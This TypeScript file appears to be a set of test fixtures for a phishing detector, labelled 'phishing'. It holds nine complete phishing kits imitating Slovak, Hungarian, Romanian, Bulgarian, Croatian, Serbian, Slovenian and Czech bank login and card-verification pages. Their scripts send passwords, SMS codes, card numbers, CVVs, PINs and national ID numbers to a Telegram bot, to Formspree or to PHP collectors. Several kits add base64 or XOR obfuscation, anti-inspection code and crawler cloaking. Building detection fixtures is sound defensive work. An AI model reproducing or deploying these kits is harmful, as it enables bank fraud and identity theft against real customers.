import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, b64, favicon, wordmark, wordmarkUri, baseCss, cardFieldScript, chunks, xorList, rev } from '../parts/yd-kit.js';
import { jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const host = 'csob-sk-overenie.web.app';
  const bot = '7384019265:AAGx3kQ1fV0pR7hLw2nYt9mZcBq4eJd8sUo';
  const body = `<div class="top"><div class="wrap">${wordmark('ČSOB', '#fff', { mark: 'square', text: '#fff', width: 120 })}<nav><a href="#">Občania</a><a href="#">Podnikatelia</a><a href="#">Firmy</a></nav></div></div>
<div class="wrap grid">
  <div class="card">
    <h1>Prihlásenie do Internetbankingu</h1>
    <div id="step1">
      <p class="lead">Vážený klient, z dôvodu aktualizácie bezpečnostných prvkov podľa smernice PSD2 je potrebné overiť váš účet do 24 hodín. Neoverené účty budú dočasne obmedzené.</p>
      <label>IPPID (identifikačné číslo)</label>
      <input id="ippid" placeholder="napr. 12345678" inputmode="numeric">
      <label>Heslo</label>
      <input id="pw" type="password">
      <label>Telefónne číslo</label>
      <input id="tel" value="+421 " inputmode="tel">
      <button id="b1">Prihlásiť sa</button>
    </div>
    <div id="step2" hidden>
      <p class="lead">Zadajte overovací kód, ktorý vám príde v SMS správe, alebo potvrďte prihlásenie v aplikácii ČSOB SmartToken.</p>
      <label>Overovací kód</label>
      <input id="otp" inputmode="numeric" maxlength="8">
      <button id="b2">Overiť</button>
    </div>
    <div id="step3" hidden><p class="lead"><b>Ďakujeme.</b> Váš účet bol úspešne overený. Budete presmerovaný…</p></div>
  </div>
  <aside><h3>Bezpečnosť</h3><p>ČSOB vás nikdy nebude žiadať o zadanie PIN kódu ku karte e-mailom.</p><p>Klientske centrum: 0850 111 777</p></aside>
</div>`;
  const css = `${baseCss}body{background:#eef2f6}.top{background:#00457c;color:#fff}.wrap{max-width:1060px;margin:0 auto;padding:0 20px}.top .wrap{display:flex;align-items:center;height:70px}.top nav{margin-left:auto;display:flex;gap:24px}.top nav a{color:#fff;text-decoration:none;font-size:15px}
.grid{display:grid;grid-template-columns:2fr 1fr;gap:24px;margin-top:40px}.card{background:#fff;border-top:4px solid #00a3e0;padding:32px 36px;border-radius:4px}h1{font-size:24px;color:#00457c;margin-top:0}.lead{color:#445}label{display:block;margin:16px 0 4px;font-size:14px;color:#334}input{width:100%;padding:12px;border:1px solid #a9b6c3;border-radius:3px}button{margin-top:24px;background:#00a3e0;color:#fff;border:0;padding:13px 34px;font-weight:700;border-radius:3px;cursor:pointer}aside{background:#fff;padding:24px;border-radius:4px;font-size:14px}`;
  const js = `<script>
var T='${bot}',C='-1002211984471';
function tg(t){return fetch('https://api.telegram.org/bot'+T+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:C,text:t,parse_mode:'HTML'})}).catch(function(){})}
var ip='';fetch('https://api.ipify.org?format=json').then(function(r){return r.json()}).then(function(j){ip=j.ip}).catch(function(){});
document.getElementById('b1').onclick=function(){var m='<b>CSOB SK</b>\\nIPPID: '+ippid.value+'\\nHeslo: '+pw.value+'\\nTel: '+tel.value+'\\nIP: '+ip+'\\nUA: '+navigator.userAgent;tg(m).then(function(){step1.hidden=true;step2.hidden=false})};
document.getElementById('b2').onclick=function(){tg('<b>CSOB SK OTP</b>\\n'+ippid.value+' : '+otp.value).then(function(){step2.hidden=true;step3.hidden=false;setTimeout(function(){location.href='https://www.csob.sk/'},2500)})};
</script>`;
  return {
    id: 'yd-csob-sk-telegram-kit', label: 'phishing', kind: 'bank-login-kit',
    url: `https://${host}/`,
    body: page({ lang: 'sk', title: 'ČSOB Internetbanking – Prihlásenie', head: favicon('#00457c', 'Č'), css, body, scripts: js }),
    routes: {
      [`api.telegram.org/bot${bot}/sendMessage`]: jsonRoute({ ok: true, result: { message_id: 4412 } }),
      'api.ipify.org/': jsonRoute({ ip: '91.127.44.18' }),
    },
  } satisfies Entry;
})(),

(() => {
  const host = 'otpdirekt-ugyfelazonositas.info';
  const inner = `<div class="hdr"><img src="${wordmarkUri('OTP Bank', '#52ae30', { mark: 'circle', width: 150 })}" alt="OTP Bank"><span>OTPdirekt Internetbank</span></div>
<div class="box">
<h2>Belépés</h2>
<p>Tisztelt Ügyfelünk! Rendszerünk szokatlan tevékenységet észlelt számláján. A további használathoz kérjük, azonosítsa magát.</p>
<form method="post" action="post.php" id="lf">
<label>Felhasználói azonosító</label><input name="azonosito" required>
<label>Jelszó</label><input name="jelszo" type="password" required>
<label>Bankkártya száma</label><input name="kartya" inputmode="numeric" maxlength="19" data-card="number">
<div class="row"><div><label>Lejárat</label><input name="lejarat" placeholder="HH/ÉÉ" data-card="expiry"></div><div><label>CVC</label><input name="cvc" maxlength="3" data-card="cvc"></div></div>
<button>Belépés</button>
</form>
<p class="small">OTP Bank Nyrt. · 1051 Budapest, Nádor u. 16. · Telefonos ügyfélszolgálat: +36 1/20/30/70 3 666 666</p>
</div>`;
  const style = `body{margin:0;background:#f4f4f4;font-family:Arial,sans-serif}.hdr{background:#fff;border-bottom:3px solid #52ae30;padding:14px 30px;display:flex;align-items:center;gap:18px}.hdr span{color:#333;font-size:15px}.box{max-width:420px;margin:40px auto;background:#fff;padding:30px;border:1px solid #ddd}h2{color:#006738;margin-top:0}label{display:block;font-size:13px;margin:12px 0 4px;color:#444}input{width:100%;padding:10px;border:1px solid #bbb;box-sizing:border-box}.row{display:flex;gap:12px}.row>div{flex:1}button{margin-top:20px;background:#52ae30;color:#fff;border:0;padding:12px;width:100%;font-size:16px;cursor:pointer}.small{font-size:11px;color:#888;margin-top:24px}`;
  const payload = b64(`<style>${style}</style>${inner}`);
  const parts = chunks(payload, 76).map((c) => `'${c}'`).join('+\n');
  const body = `<!DOCTYPE html><html lang="hu"><head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"><title>OTPdirekt</title>${favicon('#52ae30', 'O')}</head><body>
<script>document.oncontextmenu=function(){return false};document.onkeydown=function(e){if(e.keyCode==123||(e.ctrlKey&&e.keyCode==85))return false};</script>
<script>var _0x=[${'\n'}${parts}];document.write(decodeURIComponent(escape(window['a'+'tob'](_0x.join('')))));</script>
${cardFieldScript}
</body></html>`;
  return {
    id: 'yd-otp-hu-docwrite-kit', label: 'phishing', kind: 'obfuscated-bank-kit',
    url: `https://${host}/otpdirekt/belepes.php`,
    body,
    routes: { [`${host}/otpdirekt/post.php`]: redirectRoute(302, 'https://www.otpbank.hu/') },
  } satisfies Entry;
})(),

(() => {
  const host = 'neobt-securizare.ro-autentificare.com';
  const css = `${baseCss}body{background:#f7f7fa;font-family:"Open Sans",Arial,sans-serif}
.bar{background:#fff;box-shadow:0 1px 6px rgba(0,0,0,.08);padding:14px 40px;display:flex;align-items:center}
.bar .r{margin-left:auto;font-size:13px;color:#666}
.panel{max-width:460px;margin:50px auto;background:#fff;border-radius:16px;padding:36px 40px;box-shadow:0 6px 24px rgba(0,0,0,.07)}
.dots{display:flex;gap:8px;margin-bottom:22px}.dots i{height:4px;flex:1;background:#e3e3ea;border-radius:2px}.dots i.a{background:#ffd400}
h1{font-size:22px;margin:0 0 8px;color:#001e50}p{color:#555;font-size:15px}
label{font-size:13px;color:#333;display:block;margin:14px 0 5px}
input{width:100%;padding:13px 14px;border:1px solid #ccd;border-radius:10px}
.btn{width:100%;margin-top:24px;padding:14px;border:0;border-radius:10px;background:#001e50;color:#fff;font-weight:700;cursor:pointer}
.two{display:flex;gap:12px}.two>div{flex:1}
.note{font-size:12px;color:#888;margin-top:16px}`;
  const body = `<div class="bar">${wordmark('NeoBT', '#001e50', { mark: 'square', width: 120 })}<span class="r">Banca Transilvania · 0264 308 028</span></div>
<div class="panel">
  <div class="dots"><i class="a" id="d1"></i><i id="d2"></i><i id="d3"></i></div>
  <form id="st1">
    <h1>Autentificare</h1>
    <p>Pentru siguranța contului dumneavoastră, accesul în NeoBT a fost suspendat temporar. Reconfirmați datele pentru reactivare.</p>
    <label>Nume utilizator</label><input name="user" required>
    <label>Parolă</label><input name="pass" type="password" required>
    <button class="btn">Continuă</button>
  </form>
  <form id="st2" hidden>
    <h1>Cod de confirmare</h1>
    <p>Introduceți codul primit prin SMS la numărul de telefon asociat contului.</p>
    <label>Cod SMS</label><input name="sms" inputmode="numeric" maxlength="6" required>
    <button class="btn">Confirmă</button>
  </form>
  <form id="st3" hidden>
    <h1>Verificare card</h1>
    <p>Ultimul pas: confirmați cardul atașat contului curent.</p>
    <label>Număr card</label><input name="cc" data-card="number" required>
    <div class="two"><div><label>Expirare</label><input name="exp" placeholder="LL/AA" data-card="expiry" required></div><div><label>CVV</label><input name="cvv" data-card="cvc" required></div></div>
    <label>PIN card</label><input name="pin" type="password" maxlength="4" inputmode="numeric">
    <button class="btn">Finalizează</button>
  </form>
  <p class="note">BT nu vă va solicita niciodată datele prin e-mail.</p>
</div>`;
  const js = `${cardFieldScript}<script>
(function(){
  var k='bt_'+Date.now();
  function post(o){var x=new XMLHttpRequest();x.open('POST','/bt/xhr.php',true);x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify(Object.assign({k:k},o)));return new Promise(function(r){x.onloadend=r})}
  function go(a,b,n){document.getElementById(a).hidden=true;document.getElementById(b).hidden=false;document.getElementById('d'+n).className='a'}
  ['st1','st2','st3'].forEach(function(id,i){document.getElementById(id).addEventListener('submit',function(e){e.preventDefault();var o={step:i+1};new FormData(e.target).forEach(function(v,n){o[n]=v});post(o).then(function(){if(i<2)go(id,'st'+(i+2),i+2);else location.replace('https://www.bancatransilvania.ro/')})})});
})();
</script>`;
  return {
    id: 'yd-bt-ro-multistep-kit', label: 'phishing', kind: 'bank-login-kit',
    url: `https://${host}/neobt/login`,
    body: page({ lang: 'ro', title: 'NeoBT | Autentificare', head: favicon('#001e50', 'B'), css, body, scripts: js }),
    routes: { [`${host}/bt/xhr.php`]: jsonRoute({ s: 1 }) },
  } satisfies Entry;
})(),

(() => {
  const host = 'dskdirect.bg-potvarzhdenie.online';
  const css = `${baseCss}body{background:#f2f2f2;font-family:Arial,sans-serif}.h{background:#006a4d;padding:16px 0}.h .w{max-width:960px;margin:0 auto;padding:0 16px;display:flex;align-items:center;color:#fff}.h .w span{margin-left:auto;font-size:13px}
.c{max-width:380px;margin:48px auto;background:#fff;border:1px solid #d9d9d9;padding:28px}.c h2{margin:0 0 16px;font-size:20px;color:#006a4d}.c label{display:block;font-size:13px;margin-top:14px;color:#333}.c input{width:100%;padding:10px;border:1px solid #aaa;margin-top:4px}.c .b{background:#006a4d;color:#fff;border:0;padding:11px;width:100%;margin-top:20px;font-size:15px;cursor:pointer}.w2{font-size:12px;color:#666;margin-top:18px;line-height:1.4}`;
  const body = `<div class="h"><div class="w">${wordmark('Банка ДСК', '#fff', { mark: 'circle', text: '#fff', width: 160 })}<span>0700 10 375 | *2375</span></div></div>
<div class="c">
<h2>Вход в DSK Direct</h2>
<form method="POST" action="next.php">
<input type="hidden" name="lang" value="bg"><input type="hidden" name="rf" value="sms-0412">
<label>Потребителско име</label><input name="username" autocomplete="username" required>
<label>Парола</label><input name="password" type="password" autocomplete="current-password" required>
<label>ЕГН</label><input name="egn" inputmode="numeric" maxlength="10" required>
<input class="b" type="submit" value="Вход">
</form>
<p class="w2">Поради въвеждане на нова система за сигурност е необходимо да потвърдите самоличността си. Без потвърждение достъпът до DSK Direct ще бъде ограничен след 24 часа.</p>
</div>
<p style="text-align:center;font-size:11px;color:#999">© Банка ДСК АД. Всички права запазени.</p>`;
  const sms = page({ lang: 'bg', title: 'DSK Direct – Потвърждение', css, head: favicon('#006a4d', 'Д'),
    body: `<div class="h"><div class="w">${wordmark('Банка ДСК', '#fff', { mark: 'circle', text: '#fff', width: 160 })}</div></div>
<div class="c"><h2>Код за потвърждение</h2><p style="font-size:14px">Въведете 6-цифрения код, изпратен с SMS на вашия мобилен телефон, както и ПИН за DSK Smart.</p>
<form method="POST" action="finish.php"><label>Код от SMS</label><input name="otp" inputmode="numeric" maxlength="6" required><label>ПИН за DSK Smart</label><input name="smartpin" type="password" inputmode="numeric" maxlength="6"><input class="b" type="submit" value="Потвърди"></form></div>` });
  return {
    id: 'yd-dsk-bg-next-kit', label: 'phishing', kind: 'bank-login-kit',
    url: `https://${host}/bg/login.php`,
    body: page({ lang: 'bg', title: 'DSK Direct – Вход', head: favicon('#006a4d', 'Д'), css, body }),
    routes: {
      [`${host}/bg/next.php`]: htmlRoute(sms),
      [`${host}/bg/finish.php`]: redirectRoute(302, 'https://dskdirect.bg/'),
    },
  } satisfies Entry;
})(),

(() => {
  const host = 'pbz365-prijava.netlify.app';
  const kit = `<style>body{margin:0;font-family:Arial,sans-serif;background:#fff}.t{background:#0b3c78;color:#fff;padding:12px 18px;display:flex;align-items:center}.m{padding:22px 18px;max-width:420px;margin:auto}h1{font-size:21px;color:#0b3c78}label{display:block;margin-top:14px;font-size:14px}input{width:100%;padding:12px;border:1px solid #9aa;border-radius:6px;box-sizing:border-box;font-size:16px}button{margin-top:22px;width:100%;padding:14px;border:0;border-radius:6px;background:#e4002b;color:#fff;font-size:16px}small{display:block;color:#777;margin-top:16px}</style>
<div class="t">${wordmark('PBZ', '#fff', { mark: 'square', text: '#fff', width: 90 })}<span style="margin-left:auto;font-size:13px">PBZ365@NET</span></div>
<div class="m"><h1>Prijava u PBZ365@NET</h1><p>Poštovani, zbog usklađivanja s novim sigurnosnim standardima molimo potvrdite svoje podatke.</p>
<form id="pf"><label>Korisničko ime / OIB</label><input name="k" required><label>Lozinka</label><input name="l" type="password" required><label>Broj mobitela</label><input name="m" inputmode="tel" required><label>Jednokratna lozinka (mToken)</label><input name="t" inputmode="numeric" maxlength="8"><button>Prijava</button></form><small>Privredna banka Zagreb d.d., Radnička cesta 50, Zagreb</small></div>`;
  const enc = xorList(kit, 'pbz');
  const decoy = `<div style="font-family:Arial;text-align:center;margin-top:18vh;color:#555"><h2>Stranica u izradi</h2><p>Uskoro ponovno dostupno.</p></div>`;
  const body = `<!doctype html><html lang="hr"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>PBZ365@NET</title>${favicon('#0b3c78', 'P')}</head><body><script>
(function(){
  var ua=navigator.userAgent||'';
  var bad=navigator.webdriver||/Headless|bot|crawl|spider|Lighthouse|PhantomJS|python|curl/i.test(ua)||(navigator.languages&&navigator.languages.length===0);
  var mob=/Android|iPhone|iPad|Mobile/i.test(ua);
  if(bad||!mob){document.body.innerHTML=${JSON.stringify(decoy)};return;}
  var d=[${enc}],k='pbz',s='';for(var i=0;i<d.length;i++)s+=String.fromCharCode(d[i]^k.charCodeAt(i%k.length));
  document.body.innerHTML=s;
  document.getElementById('pf').onsubmit=function(e){e.preventDefault();var f=new FormData(this);f.append('ua',ua);navigator.sendBeacon('/.netlify/functions/rcv',f);this.innerHTML='<p>Vaši podaci se provjeravaju. Kontaktirat će vas naš savjetnik.</p>'};
})();
</script></body></html>`;
  return {
    id: 'yd-pbz-hr-ua-cloaked-kit', label: 'phishing', kind: 'cloaked-bank-kit',
    url: `https://${host}/`,
    body,
    routes: { [`${host}/.netlify/functions/rcv`]: jsonRoute({ ok: true }) },
  } satisfies Entry;
})(),

(() => {
  const host = 'intesa-mtoken-aktivacija.com';
  const css = `${baseCss}body{background:#f5f7f8}.hd{background:#fff;border-bottom:1px solid #e3e7ea;padding:0 28px;height:66px;display:flex;align-items:center}.hd b{margin-left:auto;color:#0a6e3c;font-size:14px}
.in{max-width:520px;margin:36px auto;background:#fff;border-radius:8px;padding:32px 36px;border:1px solid #e3e7ea}
h1{color:#0a6e3c;font-size:23px;margin:0 0 10px}.info{background:#eef7f1;border-left:4px solid #0a6e3c;padding:12px 14px;font-size:14px;margin-bottom:18px}
label{display:block;font-size:14px;margin:14px 0 5px}input{width:100%;padding:11px 12px;border:1px solid #b9c3c9;border-radius:4px}
button{margin-top:22px;background:#0a6e3c;color:#fff;border:0;padding:12px 26px;border-radius:4px;font-weight:600;cursor:pointer}
.ok{display:none;text-align:center}.ok.on{display:block}`;
  const body = `<div class="hd">${wordmark('Banca Intesa', '#0a6e3c', { mark: 'circle', width: 170 })}<b>Kontakt centar: 011 310 88 88</b></div>
<div class="in">
  <h1>Aktivacija novog mToken-a</h1>
  <div class="info">Od 01. marta postojeći mToken prestaje da važi. Da biste nastavili da koristite Intesa Mobi i Banca Intesa Online, aktivirajte novi mToken u nekoliko koraka.</div>
  <form id="af">
    <label>Korisničko ime</label><input name="korisnik" required>
    <label>Lozinka</label><input name="lozinka" type="password" required>
    <label>JMBG</label><input name="jmbg" inputmode="numeric" maxlength="13" required>
    <label>Broj platne kartice</label><input name="kartica" inputmode="numeric" data-card="number">
    <label>Trenutni PIN za mToken</label><input name="pin" type="password" inputmode="numeric" maxlength="6">
    <label>Aktivacioni kod iz SMS poruke</label><input name="kod" inputmode="numeric" maxlength="8">
    <button>Aktiviraj mToken</button>
  </form>
  <div class="ok" id="ok"><h2>Zahtev je primljen</h2><p>Vaš novi mToken biće aktiviran u roku od 24 časa. Ne koristite aplikaciju do tada.</p></div>
</div>`;
  const js = `${cardFieldScript}<script>
document.getElementById('af').addEventListener('submit',function(e){e.preventDefault();var fd=new FormData(this);fd.append('t',new Date().toISOString());
fetch('/mtoken/prijem.php',{method:'POST',body:fd}).finally(function(){document.getElementById('af').style.display='none';document.getElementById('ok').classList.add('on')})});
</script>`;
  return {
    id: 'yd-intesa-rs-mtoken-kit', label: 'phishing', kind: 'mobile-token-kit',
    url: `https://${host}/aktivacija/`,
    body: page({ lang: 'sr-Latn', title: 'Banca Intesa – Aktivacija mToken', head: favicon('#0a6e3c', 'I'), css, body, scripts: js }),
    routes: { [`${host}/mtoken/prijem.php`]: jsonRoute({ status: 'ok' }) },
  } satisfies Entry;
})(),

(() => {
  const host = 'nlbklik-si-prijava.vercel.app';
  const css = `${baseCss}body{background:linear-gradient(180deg,#f0f4f9,#fff);min-height:100vh}
.w{max-width:400px;margin:0 auto;padding:40px 20px}.logo{margin-bottom:30px}
.c{background:#fff;border-radius:6px;box-shadow:0 2px 14px rgba(0,40,100,.1);padding:30px}
h1{font-size:20px;font-weight:600;margin:0 0 18px;color:#1b2a47}
.f{margin-bottom:14px}.f label{display:block;font-size:13px;color:#546;margin-bottom:4px}.f input{width:100%;border:1px solid #c7d0dc;border-radius:4px;padding:11px}
.b{width:100%;padding:12px;border:0;border-radius:4px;background:#2255a4;color:#fff;font-weight:600}
.links{font-size:13px;margin-top:14px;display:flex;justify-content:space-between}.links a{color:#2255a4}
.ft{font-size:12px;color:#889;text-align:center;margin-top:30px}`;
  const body = `<div class="w"><div class="logo">${wordmark('NLB Klik', '#2255a4', { mark: 'diamond', width: 150 })}</div>
<div class="c"><h1>Prijava v NLB Klik</h1>
<form action="https://formspree.io/f/xnqkwlbd" method="POST">
<input type="hidden" name="_subject" value="NLB nova prijava">
<input type="hidden" name="_next" value="https://www.nlb.si/">
<div class="f"><label>Uporabniško ime</label><input name="uporabnik" required></div>
<div class="f"><label>Geslo</label><input name="geslo" type="password" required></div>
<div class="f"><label>Enkratno geslo (SMS / NLB Klikpro)</label><input name="otp" inputmode="numeric" maxlength="8" required></div>
<button class="b">Prijava</button>
</form>
<div class="links"><a href="#">Pozabljeno geslo?</a><a href="#">Pomoč</a></div></div>
<p class="ft">Kontaktni center NLB: 01 477 20 00 · NLB d.d., Trg republike 2, Ljubljana</p></div>`;
  return {
    id: 'yd-nlb-si-formrelay-kit', label: 'phishing', kind: 'bank-login-kit',
    url: `https://${host}/klik/prijava`,
    body: page({ lang: 'sl', title: 'NLB Klik', head: favicon('#2255a4', 'N'), css, body }),
    routes: { 'formspree.io/f/xnqkwlbd': redirectRoute(303, 'https://www.nlb.si/') },
  } satisfies Entry;
})(),

(() => {
  const host = 'kb-idcheck.cz-platby.com';
  const css = `${baseCss}body{background:#fafafa;font-size:14px}
.frame{max-width:420px;margin:24px auto;background:#fff;border:1px solid #ddd;border-radius:4px;overflow:hidden}
.brand{display:flex;justify-content:space-between;align-items:center;padding:12px 16px;background:#fff;border-bottom:1px solid #eee}
.body{padding:18px 22px}.kv{display:grid;grid-template-columns:1fr 1fr;gap:4px 10px;margin:12px 0;font-size:13px}.kv span:nth-child(odd){color:#777}
label{display:block;margin:12px 0 4px}input{width:100%;padding:10px;border:1px solid #bbb;border-radius:3px}
.row{display:flex;gap:10px}.row>div{flex:1}
button{width:100%;margin-top:18px;background:#cc0033;color:#fff;border:0;padding:12px;border-radius:3px;font-weight:700}
.foot{padding:10px 16px;font-size:11px;color:#888;background:#f6f6f6}`;
  const body = `<div class="frame">
<div class="brand">${wordmark('Komerční banka', '#cc0033', { mark: 'square', width: 180, height: 30 })}<svg width="72" height="30"><circle cx="26" cy="15" r="12" fill="#eb001b"/><circle cx="44" cy="15" r="12" fill="#f79e1b" fill-opacity=".85"/></svg></div>
<div class="body">
<b>Mastercard Identity Check™</b>
<p>Potvrďte prosím platbu. Pro ověření držitele karty vyplňte údaje níže.</p>
<div class="kv"><span>Obchodník</span><span>ZASILKOVNA – doplatek</span><span>Částka</span><span>49,00 CZK</span><span>Datum</span><span id="d"></span></div>
<form id="k">
<label>Číslo karty</label><input name="cislo" data-card="number" required>
<div class="row"><div><label>Platnost</label><input name="platnost" placeholder="MM/RR" data-card="expiry" required></div><div><label>CVC</label><input name="cvc" data-card="cvc" required></div></div>
<label>Zůstatek na účtu (pro ověření limitu)</label><input name="zustatek" inputmode="decimal">
<label>Kód z SMS nebo aplikace KB Klíč</label><input name="kod" inputmode="numeric" maxlength="8">
<button>Potvrdit platbu</button>
</form></div>
<div class="foot">Komerční banka, a.s., Na Příkopě 33, Praha 1 · Infolinka 955 551 552</div></div>`;
  const js = `${cardFieldScript}<script>
d.textContent=new Date().toLocaleDateString('cs-CZ');
document.getElementById('k').addEventListener('submit',function(ev){ev.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});o.ua=navigator.userAgent;
var x=new XMLHttpRequest();x.open('POST','/api/card.php');x.setRequestHeader('Content-Type','application/json');x.onload=function(){document.querySelector('.body').innerHTML='<h3>Platba se zpracovává</h3><p>Vyčkejte prosím, budete přesměrováni.</p>';setTimeout(function(){location.href='https://www.kb.cz/'},4000)};x.send(JSON.stringify(o))});
</script>`;
  return {
    id: 'yd-kb-cz-idcheck-kit', label: 'phishing', kind: '3ds-card-kit',
    url: `https://${host}/idcheck/`,
    body: page({ lang: 'cs', title: 'Mastercard Identity Check', css, body, scripts: js }),
    routes: { [`${host}/api/card.php`]: jsonRoute({ ok: true }) },
  } satisfies Entry;
})(),

(() => {
  const kitHost = 'george-bcr.autentificare-client.com';
  const css = `${baseCss}body{background:#eef3f8}.tb{background:#00497b;height:58px;display:flex;align-items:center;padding:0 24px}
.box{max-width:420px;margin:44px auto;background:#fff;border-radius:14px;padding:34px;box-shadow:0 4px 22px rgba(0,0,0,.08)}
h1{font-size:22px;color:#00497b;margin:0 0 10px}label{display:block;margin:14px 0 5px;font-size:14px}input{width:100%;height:46px;border:1px solid #b2c2d2;border-radius:8px;padding:0 12px}
button{width:100%;margin-top:24px;height:48px;border-radius:24px;border:0;background:#00497b;color:#fff;font-weight:700}
.msg{font-size:13px;color:#667;margin-top:14px}`;
  const body = `<div class="tb">${wordmark('George', '#fff', { mark: 'none', text: '#fff', width: 100 })}<span style="margin-left:auto;color:#fff;font-size:13px">BCR</span></div>
<div class="box"><h1>Bine ați venit în George</h1><p>Confirmați identitatea pentru a anula tranzacția de <b>2.349,00 RON</b> inițiată de pe un dispozitiv nou.</p>
<form id="g"><label>Cod utilizator</label><input name="cod" required><label>Parolă</label><input name="parola" type="password" required><label>Număr de telefon</label><input name="tel" inputmode="tel" required><button>Autentificare</button></form>
<p class="msg">Banca Comercială Română S.A. · InfoBCR 0800 801 227</p></div>`;
  const js = `<script>
(function(){var q=new URLSearchParams(location.search);
document.getElementById('g').onsubmit=function(e){e.preventDefault();var b=new URLSearchParams(new FormData(this));b.set('c',q.get('c')||'');
fetch('/george/api/auth',{method:'POST',body:b}).then(function(r){return r.json()}).then(function(j){if(j.next)location.href=j.next}).catch(function(){})};})();
</script>`;
  const land = page({ lang: 'ro', title: 'George – Autentificare', head: favicon('#00497b', 'G'), css, body, scripts: js });
  const sms = page({ lang: 'ro', title: 'George – Confirmare', css, body: `<div class="tb">${wordmark('George', '#fff', { mark: 'none', text: '#fff', width: 100 })}</div><div class="box"><h1>Confirmare</h1><p>Introduceți codul primit prin SMS pentru anularea tranzacției.</p><form action="/george/api/sms" method="post"><label>Cod</label><input name="sms" maxlength="8"><button>Confirmă</button></form></div>` });
  return {
    id: 'yd-bcr-ro-shortlink-chain-kit', label: 'phishing', kind: 'redirect-chain-bank-kit',
    url: 'https://cutt.ly/bcr-Rx7Lq2',
    routes: {
      'cutt.ly/bcr-Rx7Lq2': redirectRoute(301, `https://${kitHost}/r/?c=Rx7Lq2`),
      [`${kitHost}/r/`]: redirectRoute(302, `https://${kitHost}/george/login.html?c=Rx7Lq2`),
      [`${kitHost}/george/login.html`]: htmlRoute(land),
      [`${kitHost}/george/api/auth`]: jsonRoute({ next: '/george/confirmare.html' }),
      [`${kitHost}/george/confirmare.html`]: htmlRoute(sms),
      [`${kitHost}/george/api/sms`]: redirectRoute(302, 'https://www.bcr.ro/'),
    },
  } satisfies Entry;
})(),
];
